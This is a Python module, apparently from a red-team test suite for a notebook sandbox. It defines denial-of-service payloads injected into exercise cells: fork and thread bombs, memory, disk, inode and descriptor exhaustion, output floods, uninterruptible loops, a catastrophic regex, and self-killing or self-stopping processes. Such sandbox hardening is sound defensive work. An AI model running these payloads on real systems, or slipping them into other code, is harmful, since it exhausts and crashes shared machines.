"""Attacks that use the machine up: memory, disk, output, time, restarts."""

from ..corpus import ALL, Aim, Work, attack


@attack(Aim.DENIAL)
def spinners(work: Work) -> None:
    """Forked processes that burn processor time long after their cell has ended."""
    work.first("import os\nfor _ in range(12):\n    if os.fork() == 0:\n        while True: pass")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def fork_bomb(work: Work) -> None:
    """Processes that start processes."""
    work.last("import os\nfor _ in range(100_000):\n    try: os.fork()\n    except OSError: pass")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def thread_bomb(work: Work) -> None:
    """As many threads as there can be."""
    work.last("""import threading, time
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()""")


@attack(Aim.DENIAL, ["permutation"], dangerous=True)
def memory_bomb(work: Work) -> None:
    """All the memory there is, in one piece and in many."""
    work["permutation"] = (
        "def permute(images, permutation):\n    kept = []\n    while True: kept.append(torch.ones(1 << 24))"
    )
    work.last("big = bytearray(1 << 40)")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def shared_memory_bomb(work: Work) -> None:
    """Shared mappings and many processes, which limits of one process do not count."""
    work.last(
        "import mmap, os\nkept = []\n"
        "for _ in range(8):\n"
        "    if os.fork() == 0: break\n"
        "while True:\n"
        "    block = mmap.mmap(-1, 1 << 27)\n    block.write(b'x' * (1 << 27)); kept.append(block)"
    )


@attack(Aim.DENIAL, dangerous=True)
def disk_bomb(work: Work) -> None:
    """Every file system that can be written is filled."""
    work.last("""import os
for folder in ('/tmp', '/dev/shm', '/var/tmp', '.', os.path.expanduser('~')):
    for number in range(1000):
        try: open(f'{folder}/redteam-full-{number}', 'wb').write(bytes(1 << 24))
        except OSError: break""")


@attack(Aim.DENIAL, dangerous=True)
def inode_bomb(work: Work) -> None:
    """More files, folders and links than a file system has room for."""
    work.last(
        "import os\ntry:\n    for number in range(10**6): os.mkdir(f'/tmp/redteam-{number}')\nexcept OSError as error: print(error)"
    )


@attack(Aim.DENIAL, hurts=ALL)
def descriptor_bomb(work: Work) -> None:
    """As many open files, pipes and sockets as there can be."""
    work.last(
        "import os, socket\nkept = []\ntry:\n"
        "    while True: kept += [open('/dev/null'), *os.pipe(), *socket.socketpair()]\n"
        "except OSError as error: print(error)"
    )


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def output_bomb(work: Work) -> None:
    """Printing without end."""
    work.first("while True: print('y' * 10_000)")


@attack(Aim.DENIAL)
def raw_output_bomb(work: Work) -> None:
    """Bytes written past Python, to descriptors 1 and 2 and by programs."""
    work.last(
        "import os\nfor _ in range(2000): os.write(1, b'y' * 65536); os.write(2, b'y' * 65536)\n!yes | head -c 10000000"
    )


@attack(Aim.DENIAL)
def thousand_displays(work: Work) -> None:
    """A thousand outputs, each of many kinds."""
    work.last("""from IPython.display import display
for n in range(1000): display({'text/plain': 'x', 'text/html': '<b>' * 500, 'application/json': '{}'}, raw=True)""")


@attack(Aim.DENIAL)
def enormous_traceback(work: Work) -> None:
    """An exception with a hundred megabytes to say."""
    work.last("raise ValueError('x' * 100_000_000)")


@attack(Aim.DENIAL)
def endless_cell(work: Work) -> None:
    """A cell that never ends."""
    work.first("while True: pass")


@attack(Aim.DENIAL)
def endless_cell_deaf_to_signals(work: Work) -> None:
    """A cell that never ends and cannot be interrupted."""
    work.first(
        "import signal\n"
        "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    )


@attack(Aim.DENIAL)
def endless_native_code(work: Work) -> None:
    """A loop in C, where Python handles no signals."""
    work.last("import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')")


@attack(Aim.DENIAL, ["permutation"])
def endless_answer(work: Work) -> None:
    """The function that is questioned never returns."""
    work["permutation"] = "import time\ndef permute(images, permutation):\n    while True: time.sleep(1)"


@attack(Aim.DENIAL, ["ewc"])
def exit_of_the_process(work: Work) -> None:
    """The process ends itself in the middle of a cell."""
    work.before("ewc", "import os\nos._exit(0)")


@attack(Aim.DENIAL, ["ewc"])
def exit_in_the_answer(work: Work) -> None:
    """The process ends itself while it is questioned."""
    work["ewc"] = "import os\nclass EWC(QuadraticPenalty):\n    def importance(self, model, batches): os._exit(0)"


@attack(Aim.DENIAL)
def crash(work: Work) -> None:
    """The process is aborted, and reads where there is nothing."""
    work.first("import ctypes; ctypes.string_at(0)")
    work.last("import os; os.abort()")


@attack(Aim.DENIAL, hurts=ALL)
def restart_storm(work: Work) -> None:
    """Every cell kills the process, so that each costs a new one."""
    for exercise in ("permutation", "metrics", "penalty", "ewc", "mas", "si", "rwalk", "scp"):
        work.after(exercise, "import os\nos._exit(0)")


@attack(Aim.DENIAL)
def stopped_process(work: Work) -> None:
    """The process stops itself and its children, and is never heard of again."""
    work.last(
        "import os, signal\nchild = os.fork()\nif child == 0: os.kill(os.getpid(), signal.SIGSTOP)\n"
        "os.kill(0, signal.SIGTSTP)\nos.kill(os.getpid(), signal.SIGSTOP)"
    )
